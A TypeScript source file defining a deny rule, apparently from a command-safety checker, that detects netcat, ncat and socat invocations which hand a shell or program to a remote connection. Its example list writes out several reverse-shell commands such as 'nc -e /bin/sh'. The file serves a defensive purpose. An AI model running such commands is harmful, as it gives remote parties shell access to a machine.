import { literalText } from '../words/word-value.ts';
import type { FloorRule } from './floor-rule.ts';

/** Denies to hand a shell, or any other program, to whoever is at the other end of a connection. */
export const remoteShell: FloorRule = {
  id: 'remote-shell',
  denies: ['remote-shell'],
  judge: (name, { words, span }, scene) => {
    const texts = words.slice(1).map((word) => literalText(word) ?? '');
    const isConnector = /^(?:nc|ncat|netcat|nc\.(?:traditional|openbsd))$/u.test(name);
    const givesAway =
      (isConnector && texts.some((text) => /^-[a-zA-Z]*[ec]|^--(?:sh-|lua-)?e/u.test(text))) ||
      (name === 'socat' && texts.some((text) => /^(?:exec|system|shell):/iu.test(text)));
    if (givesAway)
      scene.deny('remote-shell', 'This command hands a program to another machine.', span);
  },
  examples: {
    match: ['nc -e /bin/sh h 1', 'ncat --exec /bin/bash h 1', 'socat TCP:h:1 EXEC:/bin/sh'],
    notMatch: ['nc -z h 1', 'nc -l 1', 'socat - TCP:h:1'],
  },
};
